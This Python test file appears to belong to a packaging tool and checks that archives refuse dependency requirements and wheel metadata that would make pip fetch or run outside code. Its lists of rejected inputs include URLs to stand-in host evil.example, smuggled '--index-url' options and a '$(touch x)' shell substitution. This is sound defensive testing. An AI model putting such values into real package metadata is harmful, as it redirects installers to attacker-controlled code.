"""Requirements of an archive, and of wheels in it, that would have an installer fetch or run something else.

Each has an honest twin, which is taken.
"""

from __future__ import annotations

import dataclasses
import tarfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from packager._archive import ArchiveReader, ArchiveWriter, ExternRecord, Manifest
from packager._cli import main
from packager._environment import Fingerprint, RecordedEnvironment
from packager._environment.creating import create_environment
from packager._environment.errors import EnvironmentBuildError
from packager._environment.own import wheel_of
from packager._environment.targets import Target
from packager._environment.vendoring import fetch_wheels
from packager._environment.wheels import WHEELS
from packager.errors import ArchiveError, PackageError

Write = Callable[..., Path]


@pytest.fixture
def write(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Write:
    """Write an archive of extern records and wheels (file name and bytes)."""
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    monkeypatch.setenv("PIP_NO_INDEX", "1")

    def write(externs: Sequence[ExternRecord], wheels: Sequence[tuple[str, bytes]] = ()) -> Path:
        path = tmp_path / "net.kellet"
        versions = {one.distribution: one.version for one in externs if one.distribution}
        environment = {**dataclasses.asdict(Fingerprint.here()), "distributions": versions}
        with ArchiveWriter(path, fsync=False) as writer:
            for file, data in wheels:
                writer.add(WHEELS + file, data, kind="resource")
            writer.seal(Manifest(externs=tuple(externs), environment=environment))
        return path

    return write


def extern(
    requirement: str | None, distribution: str | None = "no-such-tiny", name: str = "tiny"
) -> ExternRecord:
    return ExternRecord(name, "installed", distribution, "1.0", requirement)


HONEST = ["no-such-tiny>=1.0,<2", "No_Such.Tiny>=1.0", "no-such-tiny", "no-such-tiny >= 1.0 , < 2"]
LYING = [
    "evil>=1.0,<2",
    "no-such-tiny-evil>=1.0",
    "no-such-tiny @ https://evil.example/x.whl",
    "no-such-tiny@git+https://evil.example/x",
    "no-such-tiny[evil]>=1.0",
    "no-such-tiny>=1.0;python_version>'3'",
    "no-such-tiny>=1.0; extra=='evil'",
    "no-such-tiny==1.0#egg=evil",
    "no-such-tiny==${HOME}",
    "no-such-tiny==1.*",
    "no-such-tiny===1.0",
    "no-such-tiny>=1.0 --index-url=http://evil.example",
    "no-such-tiny>=1.0\n--index-url=http://evil.example",
    "no-such-tiny>=1.0,--index-url=http://evil.example",
    "--index-url=http://evil.example",
    "-rno-such-tiny",
    "./no-such-tiny",
    "/no-such-tiny",
    "file:///no-such-tiny",
    "https://evil.example/no-such-tiny.whl",
    "no-such-tiny==1.0@https://evil.example",
    "no-such-tiny>=$(touch x)",
]  # fmt: skip


@pytest.mark.parametrize("requirement", LYING)
@pytest.mark.parametrize("command", ["check", "lock", "create"])
def test_a_requirement_that_is_not_that_of_its_distribution_is_refused(
    write: Write, tmp_path: Path, requirement: str, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write([extern(requirement)])
    folder = [str(tmp_path / "env")] if command == "create" else []
    assert main(["env", command, str(path), *folder]) == 3
    printed = capsys.readouterr()
    assert "manifest, extern 'tiny'" in printed.err
    assert printed.out == ""
    assert not (tmp_path / "env").exists()


@pytest.mark.parametrize("requirement", HONEST)
def test_a_requirement_is_spelled_anew(
    write: Write, requirement: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["env", "check", str(write([extern(requirement)]))]) == 1
    last = capsys.readouterr().out.splitlines()[-1]
    name, _, rest = requirement.replace(" ", "").partition(">")
    spelled = f"{name}>{rest}" if rest else name
    assert last.replace("'", "") == f"to install it: python -m pip install {spelled}"


def test_a_requirement_without_a_distribution_is_refused(write: Write) -> None:
    with (
        ArchiveReader(write([extern("evil>=1", None)])) as reader,
        pytest.raises(ArchiveError, match=r"'evil>=1' beside the distribution None; expected a requirement"),
    ):
        RecordedEnvironment.of(reader.manifest)


@pytest.mark.parametrize(
    "other",
    [
        ExternRecord("tiny.sub", "installed", "no-such-tiny", "2.0", "no-such-tiny>=1.0,<2"),
        ExternRecord("tiny.sub", "installed", "No_Such_Tiny", "1.0", "no-such-tiny>=1.0,<9"),
        ExternRecord("tiny.sub", "installed", "no-such-tiny", "1.0", None),
    ],
)
def test_records_of_one_distribution_say_the_same(write: Write, other: ExternRecord) -> None:
    first = extern("no-such-tiny>=1.0,<2")
    with (
        ArchiveReader(write([first, other])) as reader,
        pytest.raises(ArchiveError, match=r"externs 'tiny', 'tiny.sub': found 2 different versions"),
    ):
        RecordedEnvironment.of(reader.manifest)
    twin = dataclasses.replace(first, name="tiny.sub")
    with ArchiveReader(write([first, twin])) as reader:
        (found,) = RecordedEnvironment.of(reader.manifest).externs
    assert found.modules == ("tiny", "tiny.sub")


# --- wheels ---


def wheel(name: str = "tiny", version: str = "1.0", metadata: str = "", file: str = "") -> tuple[str, bytes]:
    head = metadata or f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    contents = {f"{name}.py": b"VALUE = 3\n", f"{name}-{version}.dist-info/METADATA": head.encode()}
    made, data = wheel_of(contents, name, version)
    return file or made, data


def create(path: Path, folder: Path, **options: Any) -> Any:
    with ArchiveReader(path) as reader:
        return create_environment(reader, folder, installer="pip", **options)


TINY = ExternRecord("tiny", "installed", "tiny", "1.0", "tiny>=1.0,<2")


@pytest.mark.parametrize("offline", [True, False])
@pytest.mark.parametrize(
    "line",
    [
        "Requires-Dist: evil @ {url}",
        "Requires-Dist: evil@{url}",
        "requires-dist:   evil [more] @ {url}",
        "Requires-Dist: evil\n @ {url}",
        "Requires-Dist: evil @ {url} ; python_version > '3'",
        "Requires-Dist: json5\nRequires-Dist: evil @ {url}",
    ],
)
def test_a_wheel_that_requires_what_lies_at_an_address_is_refused(
    write: Write, tmp_path: Path, line: str, offline: bool
) -> None:
    """pip fetches and builds it, `--only-binary` and `--no-index` notwithstanding."""
    marker, root = tmp_path / "marker", tmp_path / "evil-1.0"
    root.mkdir()
    # A backend of its own: nothing has to be fetched before it runs.
    (root / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    )
    (root / "backend.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    with tarfile.open(tmp_path / "evil-1.0.tar.gz", "w:gz") as file:
        file.add(root, root.name)
    url = (tmp_path / "evil-1.0.tar.gz").as_uri()
    head = f"Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n{line.format(url=url)}\n"
    path = write([TINY], [wheel(metadata=head)])
    with pytest.raises(EnvironmentBuildError, match=r"tiny-1.*: it requires .*evil.* expected names and"):
        create(path, tmp_path / "env", offline=offline)
    assert not marker.exists()
    assert not (tmp_path / "env").exists()


@pytest.mark.parametrize(
    ("metadata", "found"),
    [
        ("Name: evil\nVersion: 1.0\n", "is that of 'evil' '1.0'; expected tiny 1.0"),
        ("Name: tiny\nVersion: 2.0\n", "is that of 'tiny' '2.0'; expected tiny 1.0"),
        ("Version: 1.0\n", "is that of '' '1.0'"),
    ],
)
def test_a_wheel_under_the_name_of_another_is_refused(
    write: Write, tmp_path: Path, metadata: str, found: str
) -> None:
    path = write([TINY], [wheel(metadata=f"Metadata-Version: 2.1\n{metadata}")])
    with pytest.raises(EnvironmentBuildError, match=f"tiny-1.*not a wheel .*METADATA {found}"):
        create(path, tmp_path / "env", offline=True)


@pytest.mark.parametrize("spelled", ["Tiny", "tiny"])
def test_an_honest_wheel_is_installed(write: Write, tmp_path: Path, spelled: str) -> None:
    head = f"Metadata-Version: 2.1\nName: {spelled}\nVersion: 1.0.0\nRequires-Dist: later; extra == 'more'\n"
    made = create(write([TINY], [wheel(metadata=head)]), tmp_path / "env", offline=True)
    assert made.installed == ("tiny==1.0",)
    assert made.acting == {}


def test_offline_says_which_wheels_are_missing_and_who_requires_them(write: Write, tmp_path: Path) -> None:
    first = "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\nRequires-Dist: numpy>=1.26\n"
    first += "Requires-Dist: under[fast]"
    under = "Metadata-Version: 2.1\nName: under\nVersion: 3\nRequires-Dist: deep<2; extra == 'fast'\n"
    under += "Requires-Dist: nowhere; sys_platform == 'nowhere'\nRequires-Dist: not-asked; extra == 'slow'"
    path = write([TINY], [wheel(metadata=first), wheel("under", "3", metadata=under)])
    with pytest.raises(PackageError) as caught:
        create(path, tmp_path / "env", offline=True)
    said = str(caught.value)
    assert (
        "no wheel of deep<2, which under 3 requires; of numpy>=1.26, which tiny 1.0 requires; leave" in said
    )
    assert "--find-links, or export again with --vendor-wheels" in said
    links = tmp_path / "links"
    links.mkdir()
    for file, data in (wheel("numpy", "2.0"), wheel("deep", "1.0")):
        (links / file).write_bytes(data)
    made = create(path, tmp_path / "env", offline=True, find_links=[str(links)])
    assert made.installed == ("tiny==1.0",)


def test_several_externs_without_a_wheel_are_told_together(write: Write, tmp_path: Path) -> None:
    other = ExternRecord("other", "installed", "other", "1.0", "other>=1.0,<2")
    with pytest.raises(EnvironmentBuildError, match="the archive has no wheel of other, tiny; leave out"):
        create(write([other, TINY]), tmp_path / "env", offline=True)


def test_a_wheel_with_an_address_is_not_put_into_an_archive(write: Write, tmp_path: Path) -> None:
    """By its name alone an index would be asked for it, which may have another."""
    links, to = tmp_path / "links", tmp_path / "to"
    for folder in (links, to):
        folder.mkdir()
    head = "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n"
    head += "Requires-Dist: evil @ https://evil.example/evil.whl\n"
    file, data = wheel(metadata=head)
    (links / file).write_bytes(data)
    with pytest.raises(EnvironmentBuildError, match=r"it requires 'evil @ https://evil.example/evil\.whl'"):
        fetch_wheels({"tiny": "1.0"}, {}, [Target.here()], to, local=["tiny"], find_links=[str(links)])
    assert not list(to.iterdir())
    (links / file).write_bytes(wheel()[1])
    (found,) = fetch_wheels({"tiny": "1.0"}, {}, [Target.here()], to, local=["tiny"], find_links=[str(links)])
    assert found.file == file
